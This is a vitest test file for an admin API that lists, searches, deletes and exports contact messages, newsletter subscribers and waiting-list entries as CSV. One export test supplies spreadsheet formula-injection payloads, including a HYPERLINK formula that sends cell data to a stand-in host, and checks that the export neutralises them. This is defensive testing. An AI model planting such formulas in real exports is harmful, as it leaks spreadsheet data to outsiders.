import { gunzipSync } from "node:zlib";
import { type SubscriberList, subscriberLists } from "@cachimbo/contract/subscribers/subscribers";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createTestAccount, type TestAccount } from "../../../testing/accounts.ts";
import { createTestApp, type TestApp } from "../../../testing/app.ts";
import { keptMail } from "../../db/schema/messages/mail.ts";
import { contactMessages, newsletterSubscriptions, waitingList } from "../../db/schema/messages/subscribers.ts";
import { joinNewsletter, joinWaitingList, receiveContactMessage } from "./commands.ts";
import { writeExport } from "./exports.ts";
import { contactMail } from "./mails.ts";

let server: TestApp;
let admin: TestAccount;
beforeAll(async () => {
	server = await createTestApp({ env: { LIMITS_FACTOR: "1000" }, jobs: () => [] });
	admin = await createTestAccount(server, "ADMIN");
});
beforeEach(async () => {
	for (const table of [contactMessages, newsletterSubscriptions, waitingList, keptMail])
		await server.deps.db.delete(table);
});

const ask = async (method: string, path: string, body?: unknown) =>
	server.call(method, `/admin/${path}`, { token: admin.token, body });
const page = async (path: string) => (await ask("GET", path)).json.data;
const message = { name: "Rosa Ñahui", email: "rosa@correo.pe", subject: "Mi pago", message: "Hola,\n¿cuándo?" };
const write = (more: Partial<typeof message> = {}) =>
	server.deps.db
		.insert(contactMessages)
		.values({ ...message, ...more })
		.returning();

describe("the messages of the contact form", () => {
	it("are listed newest first, in pages, with their total", async () => {
		for (const subject of ["uno", "dos", "tres"]) await write({ subject });
		expect(await page("contact/all?size=2")).toMatchObject({
			items: [{ ...message, subject: "tres", handledAt: null }, { subject: "dos" }],
			...{ page: 1, size: 2, total: 3 },
		});
		expect(await page("contact/all?size=2&page=2")).toMatchObject({ items: [{ subject: "uno" }], total: 3 });
		expect(await page("contact/all?size=2&page=9")).toMatchObject({ items: [], total: 3 });
	});

	it.each([["ñahui"], ["NAHUI"], ["rosa@"], ["mi PAGO"], ["  pago "]])("are found by %j", async (search) => {
		await write({ name: "Otra", email: "otra@correo.pe", subject: "Otro" });
		await write();
		const found = await page(`contact/all?search=${encodeURIComponent(search)}`);
		expect([found.total, found.items[0].name]).toEqual([1, "Rosa Ñahui"]);
	});

	it.each([["%"], ["_"], ["'"], ["\\"]])("are not found by the pattern character %j", async (sign) => {
		await write();
		expect(await page(`contact/all?search=${encodeURIComponent(sign)}`)).toMatchObject({ items: [], total: 0 });
	});

	it("can be marked as handled and unhandled, idempotently, and filtered by it", async () => {
		const [[first], [second]] = [await write(), await write()];
		const marked = await ask("PUT", `contact/handled/${first!.id}`, { handled: true });
		const again = await ask("PUT", `contact/handled/${first!.id}`, { handled: true });
		expect(marked.json.data.handledAt).toMatch(/^\d{4}-/);
		expect(again.json.data.handledAt).toBe(marked.json.data.handledAt);
		const idsOf = async (handled: boolean) =>
			(await page(`contact/all?handled=${handled}`)).items.map(({ id }: { id: number }) => id);
		expect([await idsOf(true), await idsOf(false)]).toEqual([[first!.id], [second!.id]]);
		expect(await page("subscribers/counts")).toMatchObject({ contact: 2, unhandled: 1 });
		const back = await ask("PUT", `contact/handled/${first!.id}`, { handled: false });
		expect(back.json.data.handledAt).toBeNull();
		expect((await ask("PUT", "contact/handled/2147483647", { handled: true })).status).toBe(404);
	});
});

describe("the newsletter and the waiting list", () => {
	it("are listed newest first, searched by address, and counted", async () => {
		for (const name of ["ana", "rosa"]) {
			await joinNewsletter(server.deps, `${name}@correo.pe`);
			await joinWaitingList(server.deps, `${name}@correo.pe`);
		}
		for (const list of ["newsletter", "waiting-list"]) {
			expect(await page(`${list}/all?size=1`)).toMatchObject({
				items: [{ email: "rosa@correo.pe", forwardedAt: null }],
				total: 2,
			});
			expect(await page(`${list}/all?search=ANA`)).toMatchObject({ items: [{ email: "ana@correo.pe" }], total: 1 });
		}
		expect(await page("subscribers/counts")).toEqual({
			...{ contact: 0, unhandled: 0, newsletter: 2, waitingList: 2, forwards: false },
		});
	});
});

describe("the removal of an address", () => {
	const joinAll = async (email: string) => {
		await joinNewsletter(server.deps, email);
		await joinWaitingList(server.deps, email);
		await write({ email });
		await write({ email, subject: "Otra vez" });
	};
	const idIn = async (list: SubscriberList) => (await page(`${list}/all?search=rosa@`)).items[0].id;
	const totals = async () => {
		const { contact, newsletter, waitingList: waiting } = await page("subscribers/counts");
		return [contact, newsletter, waiting];
	};
	beforeEach(async () => {
		await joinAll("rosa@correo.pe");
		await joinAll("ana@correo.pe");
	});

	it("first shows all entries of the address", async () => {
		for (const list of ["contact", "newsletter", "waiting-list"] as const) {
			expect(await page(`subscribers/traces/${list}/${await idIn(list)}`)).toEqual({
				...{ email: "rosa@correo.pe", messages: 2, newsletter: true, waitingList: true, forwarded: false },
			});
		}
		expect((await ask("GET", "subscribers/traces/newsletter/2147483647")).status).toBe(404);
		expect((await ask("GET", "subscribers/traces/users/1")).status).toBe(422);
	});

	it.each<[SubscriberList, number[]]>([
		["contact", [3, 2, 2]],
		["newsletter", [4, 1, 2]],
		["waiting-list", [4, 2, 1]],
	])("can be limited to %s", async (list, left) => {
		const path = `${list}/delete/${await idIn(list)}`;
		expect((await ask("DELETE", path)).status).toBe(200);
		expect(await totals()).toEqual(left);
		expect((await ask("DELETE", path)).status).toBe(404);
	});

	it.each(["contact", "newsletter", "waiting-list"] as const)(
		"deletes the address from all lists, starting from %s",
		async (list) => {
			const answer = await ask("DELETE", `${list}/delete/${await idIn(list)}?everywhere=true`);
			expect([answer.json.message, answer.json.data]).toEqual([
				"Correo eliminado de todas las listas",
				{ messages: 2, newsletter: 1, waitingList: 1 },
			]);
			expect(await totals()).toEqual([2, 1, 1]);
		},
	);

	it("deletes the kept mail with the message, and no other", async () => {
		const input = { ...message, email: "eva@correo.pe" };
		await receiveContactMessage(server.deps, input);
		for (const one of [input, { ...input, message: "Otro" }])
			await server.deps.mail.send(contactMail("s@correo.pe", one));
		const [{ id }] = (await page("contact/all?search=eva")).items;
		await ask("DELETE", `contact/delete/${id}`);
		const left = await server.deps.db.select().from(keptMail);
		expect(left.map(({ text }) => text)).toEqual([expect.stringContaining("Otro")]);
	});
});

describe("the export of a list", () => {
	const download = (list: SubscriberList) => server.call("GET", `/admin/${list}/export`, { token: admin.token });

	it("is a private attachment named by the day, with a UTF-8 byte order mark and times of Lima", async () => {
		const createdAt = new Date("2026-11-22T03:04:05Z");
		await server.deps.db.insert(waitingList).values({ email: "ana@correo.pe", createdAt, forwardedAt: createdAt });
		await server.deps.db.insert(newsletterSubscriptions).values({ email: "ana@correo.pe", createdAt });
		const { headers, text } = await download("waiting-list");
		expect(headers).toMatchObject({
			"content-type": "text/csv; charset=utf-8",
			"content-disposition": expect.stringMatching(/^attachment; filename="lista-de-espera-\d{4}-\d\d-\d\d\.csv"$/),
			"cache-control": "private, no-store",
		});
		const time = '"2026-11-21 22:04:05"';
		expect(text).toBe(`\ufeff"fecha";"correo";"enviado"\r\n${time};"ana@correo.pe";${time}\r\n`);
		const newsletter = await download("newsletter");
		expect(newsletter.text).toBe(`\ufeff"fecha";"correo"\r\n${time};"ana@correo.pe"\r\n`);
	});

	it("is named by its list and by the day in Lima", () => {
		const deps = { ...server.deps, clock: { now: () => new Date("2026-11-22T04:59:00Z") } };
		const names = subscriberLists.map((list) => writeExport(deps, list).filename);
		expect(names).toEqual(["mensajes-2026-11-21.csv", "boletin-2026-11-21.csv", "lista-de-espera-2026-11-21.csv"]);
	});

	it("contains no formulas, whatever names and messages people write", async () => {
		const formula = '=HYPERLINK("https://malo.pe?"&A1,"clic")';
		await server.call("POST", "/contacto", {
			body: { name: "＝1+1", email: "-2+3@correo.pe", subject: "@SUM(1)", message: `${formula}\n;=2` },
		});
		await joinNewsletter(server.deps, "=cmd@correo.pe");
		const contact = (await download("contact")).text.split("\r\n")[1];
		expect(contact).toContain(
			`;"'＝1+1";"'-2+3@correo.pe";"'@SUM(1)";"'=HYPERLINK(""https://malo.pe?""&A1,""clic"")\n;=2";""`,
		);
		expect((await download("newsletter")).text).toContain(`;"'=cmd@correo.pe"`);
	});

	it("contains each entry of a long list once, newest first, also compressed", async () => {
		await server.deps.db.$client.query(
			"insert into waiting_list (email) select 'p' || n || '@correo.pe' from generate_series(1, 2500) n",
		);
		const zipped = await server.app.inject({
			url: "/api/v1/admin/waiting-list/export",
			headers: { authorization: `Bearer ${admin.token}`, "accept-encoding": "gzip" },
		});
		const lines = gunzipSync(zipped.rawPayload).toString().split("\r\n");
		const names = lines.slice(1, -1).map((line) => line.split(";")[1]);
		expect(names).toEqual(Array.from({ length: 2500 }, (_, index) => `"p${2500 - index}@correo.pe"`));
		expect((await download("waiting-list")).text.split("\r\n")).toEqual(lines);
	});
});

it("lists, searches and exports a hundred thousand entries within the request's deadline", {
	timeout: 60_000,
}, async () => {
	for (const from of [1, 50_001]) {
		await server.deps.db.$client.query(
			`insert into contact_messages (name, email, subject, message)
			select 'Rosa Ñahui ' || n, 'p' || n || '@correo.pe', 'Mi pago ' || n, repeat('Hola ', 40)
			from generate_series($1::int, $1 + 49999) n`,
			[from],
		);
	}
	// Each within the request's deadline of three seconds; a slower one would be answered 503.
	expect(await page("contact/all?page=5000")).toMatchObject({ total: 100_000, items: { length: 20 } });
	expect(await page("contact/all?search=nahui 77777")).toMatchObject({ total: 1 });
	const { text } = await server.call("GET", "/admin/contact/export", { token: admin.token });
	expect(text.split("\r\n")).toHaveLength(100_002);
});
